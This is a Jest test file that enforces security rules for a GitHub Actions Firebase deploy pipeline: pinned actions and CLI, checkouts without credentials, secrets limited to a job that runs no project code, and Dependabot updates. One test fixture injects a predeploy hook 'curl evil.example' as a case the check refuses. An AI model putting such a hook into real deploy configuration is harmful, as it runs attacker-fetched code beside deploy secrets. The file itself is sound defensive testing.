/** @jest-environment node */
/**
 * The deploy pipeline's security rules (issue 21): the deploy key only in a job that runs none of the project's
 * code, every action pinned to a commit, the Firebase CLI pinned, no token left in a checkout, updates by
 * Dependabot, and one maintained Node.js major everywhere.
 */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import YAML from "yaml";

const ROOT = path.resolve(__dirname, "../..");
const read = (file: string) => fs.readFileSync(path.join(ROOT, file), "utf8");

interface Step {
  name?: string;
  uses?: string;
  run?: string;
  shell?: string;
  with?: Record<string, unknown>;
  env?: Record<string, string>;
}
interface Job {
  container?: string;
  environment?: string;
  needs?: string | string[];
  steps: Step[];
}

const workflowText = read(".github/workflows/site.yml");
const workflow = YAML.parse(workflowText) as { jobs: Record<string, Job> };
const jobs = Object.entries(workflow.jobs);
const nodeMajor = read(".nvmrc").trim();

/** Whether a job checks out the repository or runs anything from it (a script, npm, npx). */
const runsProjectCode = (job: Job) =>
  job.steps.some(
    (step) =>
      step.uses?.startsWith("actions/checkout@") ||
      (step.run !== undefined && step.shell !== "node {0}") ||
      /\b(npm|npx|scripts\/|\.ci\/)/.test(step.run ?? ""),
  );
const namesSecrets = (job: Job) => /\bsecrets\.(?!GITHUB_TOKEN\b)/.test(JSON.stringify(job));

describe("the workflow", () => {
  it("pins every action to a full commit, with its release in a comment", () => {
    const uses = [...workflowText.matchAll(/^\s*(?:-\s+)?uses:\s*(.+)$/gm)].map(([, value]) => value!.trim());
    expect(uses.length).toBeGreaterThanOrEqual(5);
    for (const use of uses) expect(use).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
  });

  it("pins the Firebase CLI that deploys to a release of the major the tests run", () => {
    const deploy = jobs.flatMap(([, job]) => job.steps).find((step) => step.uses?.includes("action-hosting-deploy"));
    const version = String(deploy?.with?.firebaseToolsVersion);
    expect(version).toMatch(/^\d+\.\d+\.\d+$/);
    const lock = JSON.parse(read("package-lock.json")) as { packages: Record<string, { version: string }> };
    const tested = lock.packages["node_modules/firebase-tools"]!.version;
    expect(version.split(".")[0]).toBe(tested.split(".")[0]);
  });

  it("leaves no token in any checkout", () => {
    const checkouts = jobs.flatMap(([, job]) => job.steps).filter((step) => step.uses?.startsWith("actions/checkout"));
    expect(checkouts.length).toBeGreaterThan(0);
    for (const checkout of checkouts) expect(checkout.with?.["persist-credentials"]).toBe(false);
  });

  it("gives a secret only to a job that runs none of the project's code", () => {
    const withSecrets = jobs.filter(([, job]) => namesSecrets(job)).map(([name]) => name);
    expect(withSecrets).toEqual(["deploy"]);
    for (const [name, job] of jobs) {
      if (namesSecrets(job))
        expect({ name, runsProjectCode: runsProjectCode(job) }).toEqual({ name, runsProjectCode: false });
    }
    expect(runsProjectCode(workflow.jobs.build!)).toBe(true);
  });

  it("deploys the tested build's artifact, live only from the production environment", () => {
    const { build, deploy } = workflow.jobs as { build: Job; deploy: Job };
    expect(deploy.needs).toBe("build");
    const upload = build.steps.find(
      (step) => step.uses?.startsWith("actions/upload-artifact") && step.with?.name === "site",
    );
    expect(String(upload?.with?.path)).toContain("firebase.deploy.json");
    const download = deploy.steps.find((step) => step.uses?.startsWith("actions/download-artifact"));
    expect(download?.with).toMatchObject({ name: "site", path: "site" });
    expect(deploy.environment).toBe("${{ github.event_name == 'push' && 'production' || 'preview' }}");
    const action = deploy.steps.find((step) => step.uses?.includes("action-hosting-deploy"));
    expect(action?.with).toMatchObject({ entryPoint: "site" });
    expect(String(action?.with?.channelId)).toContain("github.event_name == 'push' && 'live'");
  });

  it("runs every job on the Node.js major of .nvmrc, as package.json and .ci/run do", () => {
    expect(nodeMajor).toMatch(/^(22|24)$/);
    for (const [, job] of jobs) expect(job.container).toBe(`node:${nodeMajor}-bookworm`);
    const engines = (JSON.parse(read("package.json")) as { engines: { node: string } }).engines.node;
    expect(engines).toBe(`${nodeMajor}.x`);
    expect(read(".ci/run")).toMatch(/PATH="\$\(scripts\/ci\/use-node\.sh\):\$PATH"/);
  });
});

describe("the deploy job's check of the built Hosting configuration", () => {
  const check = workflow.jobs.deploy!.steps.find((step) => step.shell === "node {0}")!;
  const GOOD = {
    hosting: { public: "public", ignore: ["firebase.json"], trailingSlash: false, headers: [] },
    firestore: { rules: "firestore.rules" },
  };

  /** Runs the step's own script in a folder holding `config` as firebase.deploy.json. */
  function runCheck(config: unknown) {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), "deploy-check-"));
    fs.writeFileSync(path.join(folder, "firebase.deploy.json"), JSON.stringify(config));
    fs.writeFileSync(path.join(folder, "check.js"), check.run!);
    const result = spawnSync("node", ["check.js"], { cwd: folder, encoding: "utf8" });
    const renamed = fs.existsSync(path.join(folder, "firebase.json"));
    fs.rmSync(folder, { recursive: true });
    return { status: result.status, stderr: result.stderr, renamed };
  }

  it("passes static Hosting settings and puts them where the deploy action looks", () => {
    expect(runCheck(GOOD)).toEqual({ status: 0, stderr: "", renamed: true });
  });

  it.each([
    ["a predeploy command", { ...GOOD, hosting: { ...GOOD.hosting, predeploy: ["curl evil.example"] } }],
    ["a postdeploy command elsewhere", { ...GOOD, firestore: { rules: "x", postdeploy: "sh x" } }],
    ["an app built from source", { ...GOOD, hosting: { ...GOOD.hosting, source: "." } }],
    ["Cloud Functions", { ...GOOD, functions: { source: "functions" } }],
    ["another folder", { ...GOOD, hosting: { ...GOOD.hosting, public: "." } }],
  ])("refuses %s", (_, config) => {
    const { status, stderr, renamed } = runCheck(config);
    expect(status).toBe(1);
    expect(stderr).toMatch(/not allowed|must be/);
    expect(renamed).toBe(false);
  });
});

describe("Dependabot", () => {
  it("keeps the actions and the npm packages up to date", () => {
    const config = YAML.parse(read(".github/dependabot.yml")) as { updates: { "package-ecosystem": string }[] };
    expect(config.updates.map((update) => update["package-ecosystem"]).sort()).toEqual(["github-actions", "npm"]);
  });
});
